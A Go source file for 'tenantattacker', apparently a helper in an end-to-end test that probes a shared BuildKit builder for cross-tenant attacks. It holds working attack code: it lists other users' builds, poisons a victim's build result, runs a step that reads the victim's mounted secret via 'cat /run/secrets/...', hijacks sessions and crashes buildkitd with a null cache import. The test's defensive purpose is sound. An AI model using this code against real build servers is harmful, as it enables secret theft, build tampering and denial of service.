// Command tenantattacker is the other client of a shared builder in
// e2e/serve_tenant_test.go: it speaks BuildKit's gRPC API with hand-built
// protobuf (BuildKit v0.34.2's control.proto, gateway.proto and ops.proto)
// and tries, as another user, what #21 found works against a bare
// BuildKit: finishing another client's build with its own result, running
// a step in it that reads its secret, attaching or naming its session, and
// crashing buildkitd with a null cache import.
//
// It prints one JSON object per step: {"step", "code", "message", "data"}.
package main

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/encoding"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/encoding/protowire"
)

// raw passes hand-built messages through.
type raw struct{}

func (raw) Marshal(v any) ([]byte, error)     { return *v.(*[]byte), nil }
func (raw) Unmarshal(b []byte, v any) error   { *v.(*[]byte) = append([]byte(nil), b...); return nil }
func (raw) Name() string                      { return "proto" }
func init()                                   { encoding.RegisterCodec(raw{}) }
func str(n protowire.Number, s string) []byte { return bs(n, []byte(s)) }
func bs(n protowire.Number, b []byte) []byte {
	return protowire.AppendBytes(protowire.AppendTag(nil, n, protowire.BytesType), b)
}
func vint(n protowire.Number, v int64) []byte {
	return protowire.AppendVarint(protowire.AppendTag(nil, n, protowire.VarintType), uint64(v))
}
func cat(parts ...[]byte) []byte {
	var out []byte
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}
func mapEntry(n protowire.Number, k, v string) []byte { return bs(n, cat(str(1, k), str(2, v))) }

type step struct {
	Step    string   `json:"step"`
	Code    string   `json:"code"`
	Message string   `json:"message,omitempty"`
	Data    string   `json:"data,omitempty"`
	Refs    []string `json:"refs,omitempty"`
}

func report(s step) { json.NewEncoder(os.Stdout).Encode(s) }

func result(name string, err error, data string) step {
	st := status.Convert(err)
	return step{Step: name, Code: st.Code().String(), Message: st.Message(), Data: data}
}

func main() {
	addr := flag.String("addr", "", "unix:// address of the gateway (or buildkitd)")
	action := flag.String("action", "", "history, poison, leak, attach, solve-session, return, nullimports, connect")
	build := flag.String("build", "", "the victim's build ID")
	session := flag.String("session", "", "a session ID")
	base := flag.String("base", "", "an image with /bin/sh (leak)")
	secret := flag.String("secret", "s", "the victim's secret ID (leak)")
	payload := flag.String("payload", "POISON", "what the attacker's result holds (poison)")
	hold := flag.Duration("hold", 0, "attach: keep the session attached this long")
	flag.Parse()
	cc, err := grpc.NewClient(*addr, grpc.WithTransportCredentials(insecure.NewCredentials()), grpc.WithDefaultCallOptions(grpc.CallContentSubtype("proto")))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	defer cc.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	a := attacker{cc: cc}
	switch *action {
	case "history":
		refs, err := a.history(ctx)
		s := result("ListenBuildHistory", err, "")
		s.Refs = refs
		report(s)
	case "connect":
		report(result("ListWorkers", a.unary(ctx, "/moby.buildkit.v1.Control/ListWorkers", nil, nil), ""))
	case "poison":
		// Solve a result of our own inside the victim's build, then
		// return it as the build's result.
		bctx := metadata.AppendToOutgoingContext(ctx, "buildkit-controlapi-buildid", *build)
		def := definition(fileOp("/result.txt", *payload))
		ref, err := a.solve(bctx, def)
		report(result("LLBBridge.Solve", err, ref))
		if err != nil {
			return
		}
		ret := bs(1, bs(3, str(1, ref))) // ReturnRequest.result.ref.id
		report(result("LLBBridge.Return", a.unary(bctx, "/moby.buildkit.v1.frontend.LLBBridge/Return", ret, nil), ""))
	case "leak":
		// A step in the victim's build that mounts the victim's secret.
		bctx := metadata.AppendToOutgoingContext(ctx, "buildkit-controlapi-buildid", *build)
		src := cat(bs(3, str(1, "docker-image://"+*base)))
		exec := cat(
			bs(1, digestOf(src)),
			bs(2, cat(
				bs(1, cat(str(1, "/bin/sh"), str(1, "-c"), str(1, "cat /run/secrets/"+*secret+" > /leak.txt"), str(3, "/"))),
				bs(2, cat(vint(1, 0), str(3, "/"), vint(4, 0))),
				bs(2, cat(vint(1, -1), str(3, "/run/secrets/"+*secret), vint(4, -1), vint(6, 1), bs(21, cat(str(1, *secret), vint(4, 0o444))))),
				vint(3, 2), // network none
			)),
		)
		def := definitionOf(src, exec)
		ref, err := a.solve(bctx, def)
		report(result("LLBBridge.Solve", err, ref))
		if err != nil {
			return
		}
		var resp []byte
		err = a.unary(bctx, "/moby.buildkit.v1.frontend.LLBBridge/ReadFile", cat(str(1, ref), str(2, "/leak.txt")), &resp)
		data := ""
		if err == nil {
			data = string(field(resp, 1))
		}
		report(result("LLBBridge.ReadFile", err, data))
	case "return":
		bctx := metadata.AppendToOutgoingContext(ctx, "buildkit-controlapi-buildid", *build)
		report(result("LLBBridge.Return", a.unary(bctx, "/moby.buildkit.v1.frontend.LLBBridge/Return", nil, nil), ""))
	case "attach":
		sctx := metadata.AppendToOutgoingContext(ctx, "x-docker-expose-session-uuid", *session, "x-docker-expose-session-name", "tenantattacker", "x-docker-expose-session-sharedkey", "")
		cs, err := cc.NewStream(sctx, &grpc.StreamDesc{ServerStreams: true, ClientStreams: true}, "/moby.buildkit.v1.Control/Session")
		if err == nil {
			done := make(chan error, 1)
			go func() {
				var m []byte
				done <- cs.RecvMsg(&m)
			}()
			select {
			case err = <-done:
				if errors.Is(err, io.EOF) {
					err = nil
				}
			case <-time.After(*hold + 2*time.Second):
				// Attached: the session stream stays open (an HTTP/2
				// connection buildkitd speaks over it).
			}
		}
		report(result("Control.Session", err, ""))
	case "solve-session":
		req := cat(str(1, fmt.Sprintf("attacker-%d", time.Now().UnixNano())), str(5, *session))
		report(result("Control.Solve", a.unary(ctx, "/moby.buildkit.v1.Control/Solve", req, nil), ""))
	case "nullimports":
		req := cat(str(1, fmt.Sprintf("attacker-%d", time.Now().UnixNano())), str(6, "dockerfile.v0"), mapEntry(7, "cache-imports", "[null]"))
		report(result("Control.Solve", a.unary(ctx, "/moby.buildkit.v1.Control/Solve", req, nil), ""))
	default:
		fmt.Fprintf(os.Stderr, "unknown -action %q\n", *action)
		os.Exit(2)
	}
}

type attacker struct{ cc *grpc.ClientConn }

func (a attacker) unary(ctx context.Context, method string, req []byte, resp *[]byte) error {
	var out []byte
	if resp == nil {
		resp = &out
	}
	if req == nil {
		req = []byte{}
	}
	return a.cc.Invoke(ctx, method, &req, resp)
}

// history lists the active builds' IDs (BuildHistoryRequest ActiveOnly,
// EarlyExit).
func (a attacker) history(ctx context.Context) ([]string, error) {
	cs, err := a.cc.NewStream(ctx, &grpc.StreamDesc{ServerStreams: true}, "/moby.buildkit.v1.Control/ListenBuildHistory")
	if err != nil {
		return nil, err
	}
	req := cat(vint(1, 1), vint(3, 1))
	if err := cs.SendMsg(&req); err != nil {
		return nil, err
	}
	cs.CloseSend()
	var refs []string
	for {
		var ev []byte
		if err := cs.RecvMsg(&ev); err != nil {
			if errors.Is(err, io.EOF) {
				return refs, nil
			}
			return refs, err
		}
		if ref := string(field(field(ev, 2), 1)); ref != "" {
			refs = append(refs, ref)
		}
	}
}

// solve runs LLBBridge.Solve of def with evaluation and returns the
// result's ref ID.
func (a attacker) solve(ctx context.Context, def []byte) (string, error) {
	req := cat(bs(1, def), vint(5, 1), vint(6, 1), vint(14, 1))
	var resp []byte
	if err := a.unary(ctx, "/moby.buildkit.v1.frontend.LLBBridge/Solve", req, &resp); err != nil {
		return "", err
	}
	res := field(resp, 3) // SolveResponse.result
	if id := field(field(res, 3), 1); len(id) > 0 {
		return string(id), nil
	}
	return string(field(res, 1)), nil
}

// fileOp is an Op making one file on scratch.
func fileOp(path, data string) []byte {
	mk := cat(str(1, path), vint(2, 0o644), bs(3, []byte(data)))
	action := cat(vint(1, -1), vint(2, -1), vint(3, 0), bs(5, mk))
	return bs(4, bs(2, action))
}

// definition is a pb.Definition of op and the terminal op that returns it.
func definition(op []byte) []byte { return definitionOf(op) }

// definitionOf is a pb.Definition of ops (each using the one before, as
// the caller built them) and the terminal op returning the last.
func definitionOf(ops ...[]byte) []byte {
	var out []byte
	for _, op := range ops {
		out = append(out, bs(1, op)...)
	}
	last := ops[len(ops)-1]
	return append(out, bs(1, bs(1, digestOf(last)))...)
}

// digestOf is a pb.Input naming op's output 0.
func digestOf(op []byte) []byte {
	sum := sha256.Sum256(op)
	return cat(str(1, "sha256:"+hex.EncodeToString(sum[:])), vint(2, 0))
}

// field returns the last bytes field n of msg.
func field(msg []byte, n protowire.Number) []byte {
	var out []byte
	for len(msg) > 0 {
		num, typ, l := protowire.ConsumeTag(msg)
		if l < 0 {
			return out
		}
		msg = msg[l:]
		m := protowire.ConsumeFieldValue(num, typ, msg)
		if m < 0 {
			return out
		}
		if num == n && typ == protowire.BytesType {
			out, _ = protowire.ConsumeBytes(msg[:m])
		}
		msg = msg[m:]
	}
	return out
}
